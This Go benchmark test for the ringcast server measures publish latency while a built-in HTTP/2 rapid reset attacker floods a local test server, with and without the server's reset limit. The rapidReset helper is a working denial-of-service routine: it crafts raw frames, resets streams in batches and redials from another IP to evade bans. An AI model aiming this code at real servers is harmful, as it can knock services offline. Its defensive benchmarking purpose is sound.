package app_test

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"slices"
	"sync/atomic"
	"testing"
	"time"

	"connectrpc.com/connect"
	"google.golang.org/protobuf/types/known/structpb"

	"github.com/ringcast/ringcast/clients/go/ringcast"
	ringcastv1 "github.com/ringcast/ringcast/gen/go/ringcast/v1"
	"github.com/ringcast/ringcast/server/internal/testkit/ringtest"
)

// h2frame appends one HTTP/2 frame.
func h2frame(dst []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	dst = append(dst, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), typ, flags)
	dst = binary.BigEndian.AppendUint32(dst, stream&0x7fffffff)
	return append(dst, payload...)
}

// hpackLiteral appends a header as an HPACK literal without indexing, new
// name, no Huffman coding (names and values under 127 bytes).
func hpackLiteral(dst []byte, name, value string) []byte {
	dst = append(dst, 0x00, byte(len(name)))
	dst = append(dst, name...)
	dst = append(dst, byte(len(value)))
	return append(dst, value...)
}

// rapidReset opens an h2c connection and, until ctx ends, opens streams
// (HEADERS of a Publish) and resets each at once (RST_STREAM CANCEL), in
// batches, as fast as the connection takes them; when the server closes
// the connection (GOAWAY or not) it opens another at once. It counts the
// resets sent, the connections the server closed and the dials.
func rapidReset(ctx context.Context, addr string, resets, closed, dials *atomic.Int64) {
	var block []byte
	block = hpackLiteral(block, ":method", "POST")
	block = hpackLiteral(block, ":scheme", "http")
	block = hpackLiteral(block, ":authority", "x")
	block = hpackLiteral(block, ":path", "/ringcast.v1.EventService/Publish")
	block = hpackLiteral(block, "content-type", "application/proto")
	rst := binary.BigEndian.AppendUint32(nil, 0x8) // CANCEL
	for ctx.Err() == nil {
		dials.Add(1)
		// Another address than the publisher's: the server refuses the
		// attacker's IP for a while after cutting it.
		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}}
		c, err := d.Dial("tcp", addr)
		if err != nil {
			return
		}
		stop := context.AfterFunc(ctx, func() { c.Close() }) // a write blocked on a held connection ends with ctx
		go func() { _, _ = io.Copy(io.Discard, c) }()        // read (and drop) what the server sends
		buf := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
		buf = h2frame(buf, 0x4, 0, 0, nil) // SETTINGS
		if _, err := c.Write(buf); err != nil {
			closed.Add(1)
			stop()
			c.Close()
			continue
		}
		stream := uint32(1)
		for ctx.Err() == nil {
			buf = buf[:0]
			for range 64 {
				buf = h2frame(buf, 0x1, 0x4, stream, block) // HEADERS, END_HEADERS
				buf = h2frame(buf, 0x3, 0, stream, rst)     // RST_STREAM
				stream += 2
			}
			if _, err := c.Write(buf); err != nil {
				closed.Add(1)
				break
			}
			resets.Add(64)
			if stream > 1<<30 {
				break
			}
		}
		stop()
		c.Close()
	}
}

// BenchmarkPublishUnderRapidReset measures one publisher's latency (p50 and
// p99 per publish, over Connect on HTTP/1.1) on its own, while another
// connection does an HTTP/2 rapid reset against a server with the default
// --max-h2-resets (the attacker is cut, cut again on the connection it
// redials, and its next connection is held unserved for
// --h2-reset-penalty), and against one without that bound (Go's HTTP/2
// server alone). Compare the p99s (docs/limits.md); resets-sent/s is the
// pace of resets the attacker got written (into the socket: not all of
// them reach the server), dials its connection attempts.
//
//	go test ./server/internal/app -run '^$' -bench PublishUnderRapidReset -benchtime 5000x -count 4
func BenchmarkPublishUnderRapidReset(b *testing.B) {
	for _, run := range []struct {
		name        string
		attack      bool
		maxH2Resets int
	}{{"baseline", false, 0}, {"rapid-reset", true, 0}, {"rapid-reset-unbounded", true, -1}} {
		attack := run.attack
		b.Run(run.name, func(b *testing.B) {
			cfg := ringtest.Config()
			cfg.Edge.MaxH2Resets = run.maxH2Resets
			srv := ringtest.Start(b, cfg)
			c := srv.Client(ringcast.ProtocolConnect)
			d, _ := structpb.NewStruct(map[string]any{"n": 1})
			publish := func() error {
				_, err := c.Publish(context.Background(), connect.NewRequest(&ringcastv1.PublishRequest{Facts: []*ringcastv1.Fact{{Topic: "a", Type: "t", Payload: &ringcastv1.Fact_Data{Data: d}}}}))
				return err
			}
			if err := publish(); err != nil { // its connection opens before the attack
				b.Fatal(err)
			}
			ctx, cancel := context.WithCancel(context.Background())
			var resets, closed, dials atomic.Int64
			done := make(chan struct{})
			if attack {
				go func() { defer close(done); rapidReset(ctx, srv.Addr, &resets, &closed, &dials) }()
				time.Sleep(200 * time.Millisecond) // let it get going
			} else {
				close(done)
			}
			lat := make([]time.Duration, 0, b.N)
			b.ResetTimer()
			start := time.Now()
			for range b.N {
				t0 := time.Now()
				if err := publish(); err != nil {
					b.Fatal(err)
				}
				lat = append(lat, time.Since(t0))
			}
			elapsed := time.Since(start)
			b.StopTimer()
			cancel()
			<-done
			slices.Sort(lat)
			b.ReportMetric(float64(lat[len(lat)/2].Microseconds()), "p50-µs")
			b.ReportMetric(float64(lat[len(lat)*99/100].Microseconds()), "p99-µs")
			if attack {
				b.ReportMetric(float64(resets.Load())/elapsed.Seconds(), "resets-sent/s")
				b.ReportMetric(float64(closed.Load()), "conns-closed")
				b.ReportMetric(float64(dials.Load()), "dials")
			}
		})
	}
}
